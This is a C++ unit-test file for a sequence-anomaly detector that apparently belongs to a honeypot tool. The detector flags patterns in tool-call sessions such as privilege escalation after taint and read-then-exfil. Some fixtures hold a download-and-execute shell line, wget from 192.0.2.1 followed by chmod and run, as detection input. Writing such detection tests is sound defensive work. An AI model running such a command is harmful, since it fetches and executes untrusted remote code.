// SPDX-License-Identifier: Apache-2.0
#include "sequence/sequence_source.hpp"

#include <doctest/doctest.h>

#include <deque>

#include "support.hpp"

namespace ttp::sequence::sequence_source_test {

using namespace ttp::sequence;

namespace {

/// Hands out events that were made before.
class Prepared final : public EventSource {
 public:
  void call(std::string_view session, std::string_view tool, std::string_view sink,
            bool is_tainted = false, std::string_view ts = "2026-11-07T10:00:00Z") {
    std::string json = R"({"source_kind":"tool_call","attacker_uuid":"a","decky_id":"d","ts":")";
    json.append(ts).append("\",");
    if (!session.empty()) json += "\"session_id\":\"" + std::string(session) + "\",";
    json += R"("payload":{"tool":")" + std::string(tool) + R"(","sink_class":")" +
            std::string(sink) + R"(","source_tainted":)" + (is_tainted ? "true" : "false") + "}}";
    events_.emplace_back(json);
  }
  void event(std::string_view json) { events_.emplace_back(json); }

  const Event* next() override {
    return next_ < events_.size() ? &events_[next_++].get() : nullptr;
  }

 private:
  std::deque<test::OwnedEvent> events_;
  std::size_t next_ = 0;
};

/// `read` and `run`: a session that escalates at its second call.
void escalate(Prepared& events, const std::string& session) {
  events.call(session, "look", "read_only");
  events.call(session, "fetch", "read_only", true);
  events.call(session, "run", "code_execution");
}

/// Source ids of what comes out, those of passed events as their kind.
std::vector<std::string> run(SequenceSource& source) {
  std::vector<std::string> all;
  while (const Event* event = source.next()) {
    const bool is_ours = event->source_kind == "sequence";
    CHECK(is_ours == (event->anomaly != nullptr));
    all.emplace_back(is_ours ? event->source_id : event->source_kind);
  }
  return all;
}

const ToolTable empty_table;

}  // namespace

TEST_CASE("an anomaly follows the event that completed it; collapsed ones come at the end") {
  Prepared events;
  escalate(events, "s");
  events.call("s", "run", "code_execution");
  SequenceSource source(events, empty_table, {});
  CHECK(run(source) ==
        std::vector<std::string>{"tool_call", "tool_call", "tool_call",
                                 "s#seq2:novel_tool_after_untrusted_content", "tool_call",
                                 "s#seq2:privilege_escalation_after_taint"});
  CHECK(source.tracked_calls() == 4);
  CHECK(source.tracked_sessions() == 1);
}

TEST_CASE("a sequence event says what was found, and of whom") {
  Prepared events;
  escalate(events, "s");
  events.call("s", "run", "code_execution", false, "2026-11-07T11:00:00Z");
  SequenceSource source(events, empty_table, {});
  const Event* last = nullptr;
  std::string json;
  while ((last = source.next()) != nullptr) {
    if (last->anomaly == nullptr || last->anomaly->count < 2) continue;
    json = test::event_json(*last);
    CHECK(last->anomaly->call_index == 2);
    CHECK(last->anomaly->evidence.size() == 2);
    CHECK(last->anomaly->evidence.front().tool == "fetch");
  }
  CHECK(json.find(R"("ts":"2026-11-07T10:00:00Z")") != std::string::npos);
  CHECK(json.find(R"("attacker_uuid":"a")") != std::string::npos);
  CHECK(json.find(R"("decky_id":"d")") != std::string::npos);
  CHECK(json.find(R"("anomaly_type":"privilege_escalation_after_taint")") != std::string::npos);
  CHECK(json.find(R"("count":2)") != std::string::npos);
  CHECK(json.find(R"("origin":"agent")") != std::string::npos);
  CHECK(json.find(R"([{"index":1,"tool":"fetch"},{"index":2,"tool":"run"}])") !=
        std::string::npos);
}

TEST_CASE("a spike that is told at the end has the tools that it was made of when it was found") {
  Prepared events;
  events.call("s", "fetch", "read_only", true);
  for (const char* tool : {"a", "b", "c", "d", "e"}) events.call("s", tool, "read_only");
  SequenceSource source(events, empty_table, {});
  std::size_t spikes = 0;
  while (const Event* event = source.next()) {
    if (event->anomaly == nullptr) continue;
    ++spikes;
    CHECK(event->anomaly->type == AnomalyType::tool_diversity_spike);
    CHECK(event->anomaly->count == 4);
    CHECK(event->anomaly->description == "3 new tools after taint (max: 2)");
    CHECK(test::event_json(*event).find(
              R"([{"index":0,"tool":"fetch"},{"index":1,"tool":"a"},{"index":2,"tool":"b"}])") !=
          std::string::npos);
  }
  CHECK(spikes == 1);
}

TEST_CASE("every repeat is shown to who asks for it") {
  Prepared events;
  escalate(events, "s");
  events.call("s", "run", "code_execution");
  SequenceSource::Options options;
  options.is_every = true;
  SequenceSource source(events, empty_table, std::move(options));
  const auto all = run(source);
  CHECK(std::count(all.begin(), all.end(), "s#seq3:privilege_escalation_after_taint") == 1);
  CHECK(all.back() == "s#seq3:privilege_escalation_after_taint");
}

TEST_CASE("too many sessions: the one unseen for longest is closed, told and counted") {
  Prepared events;
  escalate(events, "a");
  escalate(events, "b");
  events.call("a", "look", "read_only");
  events.call("c", "look", "read_only");  // b goes
  events.call("b", "run", "code_execution");  // a goes; b begins anew, untainted
  SequenceSource::Options options;
  options.max_sessions = 2;
  SequenceSource source(events, empty_table, std::move(options));
  const auto all = run(source);
  CHECK(all == std::vector<std::string>{
                   "tool_call", "tool_call", "tool_call",
                   "a#seq2:novel_tool_after_untrusted_content", "tool_call", "tool_call",
                   "tool_call", "b#seq2:novel_tool_after_untrusted_content", "tool_call",
                   "tool_call", "b#seq2:privilege_escalation_after_taint", "tool_call",
                   "a#seq2:privilege_escalation_after_taint"});
  REQUIRE(source.remarks().size() == 1);
  CHECK(source.remarks()[0].starts_with("2 sessions closed before the end"));
}

TEST_CASE("too much memory closes sessions too, in the end the one in hand") {
  Prepared events;
  const std::string name(200, 'n');
  for (int i = 0; i < 300; ++i) events.call("s", name + std::to_string(i), "read_only");
  SequenceSource::Options options;
  options.max_bytes = 20'000;
  SequenceSource source(events, empty_table, std::move(options));
  run(source);
  CHECK(source.tracked_sessions() > 2);
  CHECK(source.remarks().size() == 1);
}

TEST_CASE("interleaved sessions don't touch each other") {
  Prepared events;
  for (const char* tool : {"look", "fetch", "run"}) {
    for (int i = 0; i < 500; ++i) {
      const std::string word = tool;
      events.call("s" + std::to_string(i), word,
                  word == "run" ? "code_execution" : "read_only", word == "fetch" && i % 2 == 0);
    }
  }
  SequenceSource source(events, empty_table, {});
  const auto all = run(source);
  CHECK(std::count_if(all.begin(), all.end(), [](const std::string& id) {
          return id.ends_with("novel_tool_after_untrusted_content");
        }) == 250);
  CHECK(all.back() == "s498#seq2:privilege_escalation_after_taint");
}

TEST_CASE("calls without a session are passed on, counted and not followed") {
  Prepared events;
  escalate(events, "");
  SequenceSource source(events, empty_table, {});
  CHECK(run(source) == std::vector<std::string>(3, "tool_call"));
  REQUIRE(source.remarks().size() == 1);
  CHECK(source.remarks()[0] == "3 calls without a session not followed");
}

TEST_CASE("a call without a time has that of the call before it") {
  Prepared events;
  events.call("s", "look", "read_only");
  events.call("s", "fetch", "read_only", true, "2026-11-07T10:00:00Z");
  events.event(R"({"source_kind":"tool_call","session_id":"s","payload":{"tool":"send",)"
               R"("sink_class":"network_egress","source_tainted":false}})");
  events.event(R"({"source_kind":"tool_call","session_id":"s","payload":{"tool":"send",)"
               R"("sink_class":"network_egress","source_tainted":false,"ts_ms":18446744073709551615}})");
  events.event(R"({"source_kind":"tool_call","session_id":"s","payload":{"tool":"send",)"
               R"("sink_class":"network_egress","source_tainted":false,"ts_ms":"soon"}})");
  SequenceSource source(events, empty_table, {});
  const auto all = run(source);
  CHECK(all == std::vector<std::string>{"tool_call", "tool_call", "tool_call",
                                        "s#seq2:read_then_exfil", "tool_call", "tool_call"});
}

TEST_CASE("the calls of a shell line are told apart, those of other kinds are none") {
  Diagnostics diagnostics;
  const ToolTable table =
      ToolTable::read(test::data_path("../rules/tools.yaml"), diagnostics);
  Prepared events;
  events.event(R"({"source_kind":"command","attacker_uuid":"a","session_id":"s","payload":)"
               R"({"command_text":"cd /tmp; wget http://192.0.2.1/x && chmod +x x; ./x"}})");
  events.event(R"({"source_kind":"payload","session_id":"s","payload":{"url":"u"}})");
  SequenceSource source(events, table, {});
  const Event* event = source.next();
  CHECK(event->source_kind == "command");
  REQUIRE(source.calls().size() == 4);
  CHECK(source.calls()[3].call.tool == "x");
  CHECK(source.calls()[3].index == 3);
  const auto all = run(source);
  CHECK(all == std::vector<std::string>{"s#seq2:novel_tool_after_untrusted_content",
                                        "s#seq3:privileged_action_cluster", "payload",
                                        "s#seq2:privilege_escalation_after_taint",
                                        "s#seq3:tool_diversity_spike"});
}

TEST_CASE("a command's line may stand under other names, and its record may have a class") {
  Diagnostics diagnostics;
  const ToolTable table =
      ToolTable::read(test::data_path("../rules/tools.yaml"), diagnostics);
  const auto first_call = [&](const std::string& payload) {
    Prepared events;
    events.event(R"({"source_kind":"command","attacker_uuid":"a","session_id":"s","payload":)" +
                 payload + "}");
    SequenceSource source(events, table, {});
    REQUIRE(source.next() != nullptr);
    REQUIRE(source.calls().size() == 1);
    return source.calls()[0];
  };
  CHECK(first_call(R"({"command_text":null,"text":"wget http://192.0.2.1/x"})").call.is_tainted);
  CHECK(first_call(R"({"command":"chmod +x x"})").call.sink == SinkClass::code_execution);
  const MadeCall own =
      first_call(R"({"command_text":"wget u","sink_class":"read_only","source_tainted":false})");
  CHECK(own.call.sink == SinkClass::read_only);
  CHECK_FALSE(own.call.is_tainted);
  CHECK(own.decider == Decider::record);
  const MadeCall tabled = first_call(R"({"command_text":"chmod +x x","sink_class":"harmless"})");
  CHECK(tabled.call.sink == SinkClass::code_execution);
}

TEST_CASE("closing hands out what is known and reads no further") {
  Prepared events;
  escalate(events, "s");
  events.call("s", "more", "read_only");
  SequenceSource source(events, empty_table, {});
  for (int i = 0; i < 4; ++i) static_cast<void>(source.next());
  source.close_all();
  const Event* event = source.next();
  REQUIRE(event != nullptr);
  CHECK(event->source_id == "s#seq2:privilege_escalation_after_taint");
  CHECK(source.next() == nullptr);
}

}  // namespace ttp::sequence::sequence_source_test
